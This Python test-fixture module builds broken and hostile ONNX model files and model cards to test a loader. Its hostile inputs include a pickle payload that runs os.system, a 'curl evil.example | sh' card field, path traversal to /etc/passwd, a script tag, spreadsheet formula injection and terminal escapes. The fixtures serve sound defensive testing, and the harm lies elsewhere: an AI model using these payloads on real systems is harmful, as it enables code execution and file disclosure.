"""Model files that are none, or not what they say; and cards that nobody can use."""

import json
import os
import random
from pathlib import Path

import numpy as np
import onnx
from catalogue.kinds import Kind, put
from onnx import TensorProto, helper, numpy_helper

from tlx.inference.card import CARD_KEY, ModelCard, Provenance
from tlx.inference.card_json import card_to_json
from tlx.inference.preprocessing import Preprocessing

LABELS = ("blue", "green", "red")
CARD = ModelCard(
    LABELS,
    Preprocessing(36, 32),
    Provenance("1", "2", "resnet18", "none", None, "none", "0" * 64, "2026-01-01", 0),
)
CARD_JSON = card_to_json(CARD)


def model(card: str | None = CARD_JSON, side: int = 32, **changes: str) -> onnx.ModelProto:
    """Make a network whose logits are the means of the colours; `changes` renames its tensors."""
    names = {name: changes.get(name, name) for name in ("images", "logits", "probabilities")}
    weight, sides = np.eye(3, dtype=np.float32)[::-1] / 16, np.array([1, 2])
    make, real = helper.make_node, TensorProto.FLOAT
    nodes = [
        make("Cast", [names["images"]], ["float"], to=real),
        make("MatMul", ["float", "weight"], ["pixels"]),
        make("Transpose", ["pixels"], ["activation_maps"], perm=[0, 3, 1, 2]),
        make("ReduceMean", ["float", "sides"], ["features"], keepdims=0),
        make("MatMul", ["features", "weight"], [names["logits"]]),
        make("Softmax", [names["logits"]], [names["probabilities"]], axis=1),
    ]
    shapes = {
        names["logits"]: ["N", 3],
        names["probabilities"]: ["N", 3],
        "activation_maps": ["N", 3, side, side],
        "features": ["N", 3],
    }
    graph = helper.make_graph(
        nodes,
        "colours",
        [helper.make_tensor_value_info(names["images"], TensorProto.UINT8, ["N", side, side, 3])],
        [helper.make_tensor_value_info(name, real, shape) for name, shape in shapes.items()],
        [numpy_helper.from_array(weight, "weight"), numpy_helper.from_array(sides, "sides")],
    )
    made = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)], ir_version=9)
    if card is not None:
        helper.set_model_props(made, {CARD_KEY: card})
    return made


def _content(**changes: object) -> bytes:
    return model(**changes).SerializeToString()


def _cut(folder: Path) -> None:
    whole = _content()
    put(folder, {f"{end:05}.onnx": whole[:end] for end in range(0, len(whole), 37)})


def _altered(folder: Path) -> None:
    whole, chance = _content(), random.Random(0)
    for index in range(60):
        damaged = bytearray(whole)
        for _ in range(chance.randint(1, 6)):
            damaged[chance.randrange(len(damaged))] = chance.randrange(256)
        (folder / f"{index:02}.onnx").write_bytes(damaged)


def _no_models(folder: Path) -> None:
    put(
        folder,
        {
            "empty.onnx": b"",
            "text.onnx": b"this is no model",
            "zeros.onnx": bytes(3000),
            "random.onnx": random.Random(1).randbytes(3000),
            "picture.onnx": b"\x89PNG\r\n\x1a\n" + bytes(300),
            "lfs.onnx": b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 9\n",
            "html.onnx": b"<!doctype html><title>Not found</title>",
            "gzip.onnx": b"\x1f\x8b\x08" + bytes(300),
            "pickle.onnx": b"\x80\x04cos\nsystem\n(S'touch was-here'\ntR.",
        },
    )


def _no_files(folder: Path) -> None:
    (folder / "folder.onnx").mkdir()
    (folder / "zero.onnx").symlink_to("/dev/zero")
    (folder / "gone.onnx").symlink_to("nowhere")
    (folder / "itself.onnx").symlink_to("itself.onnx")
    os.mkfifo(folder / "pipe.onnx")


def _external(folder: Path) -> None:
    """Weights that lie in another file: above, at a whole path, behind a link, nowhere."""
    outside = folder.parent / "outside.bin"
    outside.write_bytes((np.eye(3, dtype=np.float32)[::-1] / 16).tobytes())
    (folder / "link.bin").symlink_to(outside)
    places = ("../outside.bin", str(outside), "link.bin", "nowhere.bin", "/dev/zero", "/etc/passwd")
    for index, place in enumerate(places):
        made = model()
        tensor = made.graph.initializer[0]
        tensor.ClearField("raw_data")
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in {"location": place, "offset": "0", "length": "36"}.items():
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
        (folder / f"{index}.onnx").write_bytes(made.SerializeToString())


def _others(folder: Path) -> None:
    """What other programs export: no card, other names, a domain that nobody has."""
    strange = model()
    strange.graph.node[0].domain = "com.example"
    strange.opset_import.append(helper.make_opsetid("com.example", 1))
    future = model()
    future.opset_import[0].version = 99
    put(
        folder,
        {
            "bare.onnx": _content(card=None),
            "bare-names.onnx": _content(card=None, images="input", logits="output"),
            "input.onnx": _content(images="input"),
            "output.onnx": _content(logits="output"),
            "side.onnx": _content(side=64),
            "domain.onnx": strange.SerializeToString(),
            "future.onnx": future.SerializeToString(),
        },
    )


def _changed(**changes: object) -> str:
    return json.dumps({**json.loads(CARD_JSON), **changes})


def _rule(**changes: object) -> str:
    return _changed(preprocessing={**json.loads(CARD_JSON)["preprocessing"], **changes})


TEXTS = {
    "empty": "",
    "rubbish": "{",
    "list": "[]",
    "number": "7",
    "object": "{}",
    "deep": "[" * 100_000,
    "deep-object": '{"a":' * 50_000,
    "future": _changed(schema=99),
    "schema-text": _changed(schema="2"),
    "schema-true": _changed(schema=True),
    "schema-huge": '{"schema": ' + "9" * 5000 + "}",
    "not-a-number": CARD_JSON.replace('"temperature": 1.0', '"temperature": NaN'),
    "infinite": CARD_JSON.replace('"temperature": 1.0', '"temperature": 1e999'),
    "zero": _changed(temperature=0),
    "two-labels": _changed(labels=["a", "b"]),
    "one-label": _changed(labels=["a"]),
    "same-labels": _changed(labels=["a", "a", "b"]),
    "empty-label": _changed(labels=["a", "", "b"]),
    "number-label": _changed(labels=["a", "b", 3]),
    "surrogate": _changed(labels=["a", "b", "\ud800"]),
    "extra": _changed(run="curl evil.example | sh"),
    "task": _changed(task="detection"),
    "input": _changed(input="float-nchw"),
    "thresholds": _changed(thresholds=[0.5]),
    "crop": _rule(crop=10**9, resize_side=10**9),
    "resize": _rule(resize_side=10**9),
    "resize-large": _rule(resize_side=60_000),
    "negative": _rule(crop=-1),
    "no-deviation": _rule(std=[0, 0, 0]),
    "decode": _rule(decode="tlx-99"),
}
"""Cards that no file of three labels and 32 pixels can have."""
ODD_TEXTS = {
    "megabytes": _changed(labels=["a" * 5_000_000, "b", "c"]),
    "controls": _changed(labels=["\x1b[31mred\x1b]0;title\x07", "a\nb", "\u202egpj"]),
    "markup": _changed(labels=["[red]x[/red]", "<script>alert(1)</script>", "|`#"]),
    "formulas": _changed(labels=["=1+1", "@SUM(A1)", '+cmd|" /C calc"!A0']),
    "paths": _changed(labels=["../../etc/passwd", "/", "."]),
    "nul": _changed(labels=["a\0b", "b", "c"]),
}
"""Cards that are right, and strange."""


def _cards(texts: dict[str, str]):
    def write(folder: Path) -> None:
        put(folder, {f"{name}.onnx": _content(card=text) for name, text in texts.items()})

    return write


def _wrong_types(folder: Path) -> None:
    """Every field of the card, and of what it holds, as a value of another type."""
    whole = json.loads(CARD_JSON)
    wrong: dict[str, str] = {}
    for field in whole:
        if field == "schema":
            continue
        for index, value in enumerate((True, [[]], {"a": 1}, "x", -1.5)):
            wrong[f"{field}-{index}"] = _changed(**{field: value})
    for part in ("preprocessing", "provenance"):
        for field in whole[part]:
            for index, value in enumerate((None, [], {"a": 1}, True)):
                wrong[f"{part}-{field}-{index}"] = _changed(**{part: {**whole[part], field: value}})
    for field in ("resize_side", "crop"):
        left = {name: value for name, value in whole["preprocessing"].items() if name != field}
        wrong[f"{field}-missing"] = _changed(preprocessing=left)
    del wrong["provenance-weights_sha256-0"]  # null is right there
    _cards(wrong)(folder)


MODELS: tuple[Kind, ...] = (
    Kind("model file cut short", _cut),
    Kind("model file with altered bytes", _altered, "either"),
    Kind("model file that is none", _no_models),
    Kind("model file that is no file", _no_files),
    Kind("weights outside the file", _external),
    Kind("ONNX of other programs", _others),
    Kind("card that cannot be used", _cards(TEXTS)),
    Kind("card of wrong types", _wrong_types),
    Kind("card with strange labels", _cards(ODD_TEXTS), "answered"),
)
